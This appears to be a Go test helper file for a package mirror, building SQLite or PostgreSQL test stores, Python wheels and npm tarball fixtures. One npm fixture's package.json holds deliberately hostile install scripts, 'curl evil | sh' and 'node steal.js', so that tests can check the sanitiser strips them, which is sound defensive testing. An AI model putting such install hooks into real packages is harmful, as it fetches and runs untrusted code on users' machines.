package mirror

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sandboxapi/sandboxapi/internal/testenv"
	"github.com/sandboxapi/sandboxapi/store"
)

// newTestMirror opens a real SQLite store in a temp dir and, when osv is
// true, imports testdata/osv.
func newTestMirror(t testing.TB, osv bool) *Mirror {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	st := openTestStore(t, dir)
	cfg := DefaultConfig()
	cfg.StoreDir = filepath.Join(dir, "mirror")
	var log *slog.Logger
	if testing.Verbose() {
		log = slog.New(slog.NewTextHandler(os.Stderr, nil))
	}
	m, err := New(ctx, cfg, st.DB(), log)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if osv {
		if _, err := m.ImportOSV(ctx, "testdata/osv"); err != nil {
			t.Fatalf("ImportOSV: %v", err)
		}
	}
	return m
}

// openTestStore opens a real SQLite store in dir or, with
// SANDBOXAPI_TEST_STORE=postgres, a fresh PostgreSQL database.
func openTestStore(t testing.TB, dir string) *store.Store {
	t.Helper()
	url := ""
	if testenv.TestStorePostgres() {
		url = testenv.PostgresURL(t)
	}
	st, err := store.OpenURL(context.Background(), url, filepath.Join(dir, "sandboxapi.db"))
	if err != nil {
		t.Fatalf("opening store: %v", err)
	}
	t.Cleanup(func() { st.Close() })
	testStoreURLs.Store(dir, url)
	return st
}

// testStoreURLs maps a test mirror's folder to its store's URL ("" for
// SQLite), for tests that open a second handle as another node would.
var testStoreURLs sync.Map

// reopenTestStore opens another handle on the store of the test mirror m.
func reopenTestStore(t testing.TB, m *Mirror) *store.Store {
	t.Helper()
	dir := filepath.Dir(m.cfg.StoreDir)
	url, _ := testStoreURLs.Load(dir)
	st, err := store.OpenURL(context.Background(), url.(string), filepath.Join(dir, "sandboxapi.db"))
	if err != nil {
		t.Fatalf("opening store: %v", err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// serveMirror mounts m's handler at /mirror/ on a loopback server.
func serveMirror(t testing.TB, m *Mirror) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.Handle("/mirror/", m.Handler())
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

// wheelSpec describes a wheel to build; the zero value of each hook leaves
// the wheel valid.
type wheelSpec struct {
	name, version string
	files         map[string]string
	metaName      string // METADATA Name (default name)
	metaVersion   string
	record        func(rows []string) []string // edit RECORD rows
	extra         func(zw *zip.Writer)         // add raw entries after RECORD
}

func recordHash(b []byte) string {
	s := sha256.Sum256(b)
	return "sha256=" + base64.RawURLEncoding.EncodeToString(s[:])
}

// buildWheel writes a valid (unless hooks say otherwise) pure wheel.
func buildWheel(t testing.TB, ws wheelSpec) (string, []byte) {
	t.Helper()
	dist := strings.ReplaceAll(ws.name, "-", "_")
	mn, mv := ws.metaName, ws.metaVersion
	if mn == "" {
		mn = ws.name
	}
	if mv == "" {
		mv = ws.version
	}
	di := dist + "-" + ws.version + ".dist-info"
	files := map[string]string{
		di + "/METADATA": fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\nRequires-Python: >=3.7\nSummary: test wheel\n\nbody\n", mn, mv),
		di + "/WHEEL":    "Wheel-Version: 1.0\nGenerator: sandboxapi-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
	}
	if len(ws.files) == 0 {
		files[dist+"/__init__.py"] = fmt.Sprintf("VERSION = %q\n", ws.version)
	}
	for k, v := range ws.files {
		files[k] = v
	}
	names := make([]string, 0, len(files))
	for k := range files {
		names = append(names, k)
	}
	sort.Strings(names)
	var rows []string
	for _, n := range names {
		rows = append(rows, fmt.Sprintf("%s,%s,%d", n, recordHash([]byte(files[n])), len(files[n])))
	}
	rows = append(rows, di+"/RECORD,,")
	if ws.record != nil {
		rows = ws.record(rows)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range names {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: n, Method: zip.Deflate, Modified: time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)})
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, files[n])
	}
	w, _ := zw.Create(di + "/RECORD")
	io.WriteString(w, strings.Join(rows, "\n")+"\n")
	if ws.extra != nil {
		ws.extra(zw)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return dist + "-" + ws.version + "-py3-none-any.whl", buf.Bytes()
}

// tarEntry is one entry of a test tarball.
type tarEntry struct {
	name     string
	body     string
	typ      byte
	linkname string
	mode     int64
	size     int64 // overrides len(body) in the header when non-zero
}

// fixtureTime is every fixture entry's mtime, so that building one
// fixture twice gives the same bytes (with time.Now, two builds a second
// apart differed and TestPackument's "published bytes" check failed).
var fixtureTime = time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)

func buildTarball(t testing.TB, entries []tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gw)
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		h := &tar.Header{Name: e.name, Typeflag: typ, Linkname: e.linkname, Mode: mode, Size: int64(len(e.body)), ModTime: fixtureTime}
		if typ != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			io.WriteString(tw, e.body)
		}
	}
	tw.Close()
	gw.Close()
	return buf.Bytes()
}

// npmFixture is a tiny package with everything the sanitiser removes
// (install-time scripts, dependency fields) and nothing that needs a
// native build.
func npmFixture(t testing.TB, name, version string) []byte {
	t.Helper()
	pj := fmt.Sprintf(`{
  "name": %q,
  "version": %q,
  "main": "index.js",
  "bin": {"hello-bin": "bin/hello.js"},
  "scripts": {"preinstall": "curl evil | sh", "install": "node steal.js", "postinstall": "node steal.js", "prepare": "x", "test": "node test.js"},
  "dependencies": {"left-pad": "^1.0.0"},
  "optionalDependencies": {"fsevents": "*"},
  "peerDependencies": {"react": "*"},
  "bundleDependencies": ["left-pad"],
  "devDependencies": {"mocha": "^10.0.0"},
  "license": "MIT"
}`, name, version)
	return buildTarball(t, []tarEntry{
		{name: "package/package.json", body: pj},
		{name: "package/index.js", body: "module.exports = function hello() { return 'hello from " + name + "'; };\n"},
		{name: "package/bin/hello.js", body: "#!/usr/bin/env node\nconsole.log(require('..')());\n", mode: 0o755},
		{name: "package/steal.js", body: "// would run on install\n"},
	})
}

// plainNPM is a package with nothing to strip: name, version, main, the
// given extra package.json fields (a JSON object body without braces) and
// an index.js returning "NAME VERSION".
func plainNPM(t testing.TB, name, version, extra string) []byte {
	t.Helper()
	pj := fmt.Sprintf(`{"name": %q, "version": %q, "main": "index.js"%s}`, name, version, extra)
	return buildTarball(t, []tarEntry{
		{name: "package/package.json", body: pj},
		{name: "package/index.js", body: fmt.Sprintf("module.exports = %q;\n", name+" "+version)},
	})
}
